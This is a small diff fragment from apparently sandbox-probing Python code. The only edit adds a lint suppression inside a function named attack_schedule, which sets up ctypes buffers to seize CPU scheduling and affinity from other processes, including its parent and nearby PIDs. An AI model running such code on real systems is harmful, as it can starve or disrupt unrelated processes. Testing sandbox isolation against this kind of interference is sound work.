@@ -50,7 +50,7 @@ def attack_leases(text, **_):
 
 def attack_schedule(number, **_):
     """Takes the processors from everyone it can name, by every call there is. Says how often it tried."""
-    buffers = [ctypes.create_string_buffer(b) for b in (b"\1" + bytes(127), bytes(64), b"\xc8" + bytes(7) + b"\xc8" + bytes(7))]
+    buffers = [ctypes.create_string_buffer(b) for b in (b"\1" + bytes(127), bytes(64), b"\xc8" + bytes(7) + b"\xc8" + bytes(7))]  # noqa: E501
     one_processor, zero, few = map(ctypes.addressof, buffers)
     others = {*range(1, number), *range(os.getpid() - 64, os.getpid() + 64), os.getppid()} - {os.getpid()}
     tried = 0
